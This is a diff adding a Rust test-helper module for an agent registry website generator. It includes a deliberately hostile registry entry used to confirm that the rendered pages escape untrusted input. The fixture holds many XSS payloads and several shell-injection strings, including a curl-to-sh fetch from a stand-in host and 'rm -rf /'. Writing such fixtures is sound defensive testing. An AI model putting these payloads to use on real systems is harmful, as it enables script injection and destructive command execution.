@@ -1,0 +1,269 @@
+//! Shared by the site tests: `SiteAgent`s from the bundled registry and hostile fixtures.
+#![allow(dead_code)]
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use acp_registry::site::{self, SiteAgent, SiteOptions};
+use serde_json::{json, Map, Value};
+
+pub fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+pub fn options() -> SiteOptions {
+    SiteOptions {
+        title: "ACP Agent Registry".to_string(),
+        registry_json_url: "../registry.json".to_string(),
+    }
+}
+
+fn object(value: Value) -> Map<String, Value> {
+    match value {
+        Value::Object(map) => map,
+        other => panic!("expected an object, got {other}"),
+    }
+}
+
+/// One entry folder as the build would hand it over: the stable agent with `icon` set,
+/// `$schema` and `preview` removed, and the preview variant when it has one.
+pub fn load_entry(dir: &Path) -> Option<SiteAgent> {
+    let text = std::fs::read_to_string(dir.join("agent.json")).ok()?;
+    let node = acp_registry::manifest::parse(&text).ok()?;
+    let mut agent = object(node.to_json());
+    let id = agent.get("id")?.as_str()?.to_string();
+    agent.remove("$schema");
+    let preview = agent.remove("preview");
+    let mut icons = BTreeMap::new();
+    for name in ["icon.svg", "icon-light.svg", "icon-dark.svg"] {
+        if let Ok(bytes) = std::fs::read(dir.join(name)) {
+            icons.insert(name.to_string(), bytes);
+        }
+    }
+    if icons.contains_key("icon.svg") {
+        agent.insert(
+            "icon".into(),
+            json!(format!(
+                "https://cdn.agentclientprotocol.com/registry/v1/latest/{id}.svg"
+            )),
+        );
+    }
+    let preview = preview.map(|p| {
+        let p = object(p);
+        let mut variant = agent.clone();
+        for key in ["version", "distribution"] {
+            if let Some(v) = p.get(key) {
+                variant.insert(key.to_string(), v.clone());
+            }
+        }
+        variant
+    });
+    Some(SiteAgent {
+        id,
+        agent,
+        preview,
+        readme: std::fs::read_to_string(dir.join("README.md")).ok(),
+        icons,
+        quarantine: None,
+    })
+}
+
+/// Every entry of `registry/`, sorted by id, with quarantine reasons.
+pub fn bundled_agents() -> Vec<SiteAgent> {
+    let root = repo().join("registry");
+    let quarantine: BTreeMap<String, String> =
+        std::fs::read_to_string(root.join("quarantine.json"))
+            .ok()
+            .and_then(|t| serde_json::from_str(&t).ok())
+            .unwrap_or_default();
+    let mut dirs: Vec<PathBuf> = std::fs::read_dir(&root)
+        .expect("registry/ exists")
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| p.join("agent.json").is_file())
+        .collect();
+    dirs.sort();
+    dirs.iter()
+        .filter_map(|d| load_entry(d))
+        .map(|mut a| {
+            a.quarantine = quarantine.get(&a.id).cloned();
+            a
+        })
+        .collect()
+}
+
+pub fn render_bundled() -> BTreeMap<String, Vec<u8>> {
+    site::render(&bundled_agents(), &options()).expect("the bundled registry renders")
+}
+
+pub fn text(files: &BTreeMap<String, Vec<u8>>, path: &str) -> String {
+    String::from_utf8(
+        files
+            .get(path)
+            .unwrap_or_else(|| panic!("{path} rendered"))
+            .clone(),
+    )
+    .expect("UTF-8")
+}
+
+/// Write every file under `dir`.
+pub fn write_site(files: &BTreeMap<String, Vec<u8>>, dir: &Path) {
+    for (path, bytes) in files {
+        let target = dir.join(path);
+        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
+        std::fs::write(target, bytes).unwrap();
+    }
+}
+
+pub const ICON: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 16 16"><circle cx="8" cy="8" r="6" fill="none" stroke="currentColor" stroke-width="2"/></svg>"#;
+
+/// A small, plain agent.
+pub fn simple_agent(id: &str, name: &str) -> SiteAgent {
+    SiteAgent {
+        id: id.to_string(),
+        agent: object(json!({
+            "id": id,
+            "name": name,
+            "version": "1.0.0",
+            "description": format!("{name} does things."),
+            "license": "MIT",
+            "tags": ["test"],
+            "distribution": {"npx": {"package": format!("{id}@1.0.0"), "args": ["--acp"]}}
+        })),
+        icons: BTreeMap::from([("icon.svg".to_string(), ICON.as_bytes().to_vec())]),
+        ..SiteAgent::default()
+    }
+}
+
+/// An entry whose every string tries to break out: markup, attribute injection, `javascript:`
+/// and `data:` URLs, shell metacharacters, a scripted icon and a hostile README.
+pub fn hostile_agent() -> SiteAgent {
+    let name = "<script>alert('name')</script>Evil";
+    let mut agent = object(json!({
+        "id": "evil",
+        "name": name,
+        "version": "1.0.0\"><script>alert('version')</script>",
+        "description": "\"><img src=x onerror=alert('description')> <b>bold</b> & more",
+        "repository": "javascript:alert('repository')",
+        "website": " JaVaScRiPt:alert('website')",
+        "homepage": "https://user:secret@evil.example/",
+        "authors": ["<i onmouseover=alert('author')>Mallory</i>"],
+        "license": "<svg onload=alert('license')>",
+        "license_url": "data:text/html,<script>alert('license_url')</script>",
+        "capabilities": ["session/load\"><script>alert('cap')</script>"],
+        "auth": [{
+            "type": "env_var\" onfocus=\"alert('auth')",
+            "id": "<a href=javascript:alert('id')>x</a>",
+            "name": "<script>alert('auth name')</script>",
+            "description": "'; alert('auth description'); '",
+            "vars": ["KEY\"><script>alert('var')</script>"],
+            "args": ["$(reboot)", "`id`"]
+        }],
+        "tags": ["<b>tag</b>", "x\" onclick=\"alert('tag')"],
+        "protocol_version": "1<script>alert('protocol')</script>",
+        "distribution": {
+            "npx": {
+                "package": "evil@1.0.0\"; rm -rf / #",
+                "args": ["--acp", "$(curl evil.example | sh)", "</script><script>alert('arg')</script>"],
+                "env": {"EVIL": "'; rm -rf / #", "A\"B": "<script>"}
+            },
+            "binary": {
+                "linux-x86_64": {
+                    "archive": "javascript:alert('archive')",
+                    "cmd": "./evil\"><script>alert('cmd')</script>",
+                    "sha256": "<script>alert('sha')</script>"
+                },
+                "darwin-aarch64": {
+                    "archive": "https://evil.example/download/v1.0.0/evil.tar.gz?x=\"><script>alert('query')</script>",
+                    "cmd": "./evil"
+                },
+                "<script>alert('platform')</script>": {
+                    "archive": "https://evil.example/x.zip",
+                    "cmd": "./x"
+                }
+            }
+        },
+        "<img src=x onerror=alert('key')>": "<script>alert('unknown value')</script>"
+    }));
+    agent.insert("icon".into(), json!("javascript:alert('icon')"));
+    let readme = r#"# Evil <script>alert('readme heading')</script>
+
+<script>alert('readme script')</script>
+<img src="x" onerror="alert('readme img')">
+<iframe src="https://evil.example/"></iframe>
+<svg onload="alert('readme svg')"><circle r="5"/></svg>
+<style>body { display: none }</style>
+<form action="https://evil.example/"><input name="q"><button>go</button></form>
+<a href="javascript:alert('readme raw link')" onclick="alert('readme click')">raw link</a>
+<div style="position:fixed;inset:0" class="x" id="main">styled</div>
+
+[markdown js link](javascript:alert(document.domain))
+[data link](data:text/html,<script>alert(1)</script>)
+[vbscript](vbscript:msgbox(1))
+[good link](https://example.com/docs)
+[relative](docs/setup.md)
+![image](https://evil.example/track.png)
+<https://example.com/auto>
+
+| a | b |
+|:--|--:|
+| 1 | 2 |
+"#;
+    SiteAgent {
+        id: "evil".to_string(),
+        agent,
+        preview: None,
+        readme: Some(readme.to_string()),
+        icons: BTreeMap::from([(
+            "icon.svg".to_string(),
+            br#"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 16 16" onload="alert('icon')"><script>alert('icon script')</script><a href="javascript:alert(1)"><path d="M0 0h16v16z" fill="currentColor"/></a><path d="M1 1h14" stroke="currentColor" style="stroke:url(https://evil.example/x)"/></svg>"#.to_vec(),
+        )]),
+        quarantine: Some("<script>alert('quarantine')</script>".to_string()),
+    }
+}
+
+/// Start tags of an HTML document with their attributes (names lower-cased, values with the
+/// five basic entities decoded). Good enough for our own, well-formed output: any raw `<`
+/// that escaping missed shows up as a tag here.
+pub fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+    let tag = regex::Regex::new(r#"<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*/?>"#).unwrap();
+    let attr =
+        regex::Regex::new(r#"([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?"#).unwrap();
+    tag.captures_iter(html)
+        .map(|c| {
+            let attrs = attr
+                .captures_iter(&c[2])
+                .map(|a| {
+                    let value = a
+                        .get(2)
+                        .or(a.get(3))
+                        .or(a.get(4))
+                        .map_or("", |m| m.as_str());
+                    (a[1].to_ascii_lowercase(), unescape(value))
+                })
+                .collect();
+            (c[1].to_ascii_lowercase(), attrs)
+        })
+        .collect()
+}
+
+pub fn unescape(text: &str) -> String {
+    text.replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"")
+        .replace("&#39;", "'")
+        .replace("&#x27;", "'")
+        .replace("&amp;", "&")
+}
+
+/// Text of the first element with `id="<id>"` (up to its closing tag), unescaped.
+pub fn element_text(html: &str, id: &str) -> Option<String> {
+    let start = html.find(&format!("id=\"{id}\""))?;
+    let open_end = start + html[start..].find('>')? + 1;
+    let inner = &html[open_end..];
+    let end = inner.find("</pre>").or_else(|| inner.find("</"))?;
+    let raw = regex::Regex::new(r"<[^>]*>")
+        .unwrap()
+        .replace_all(&inner[..end], "");
+    Some(unescape(&raw))
+}
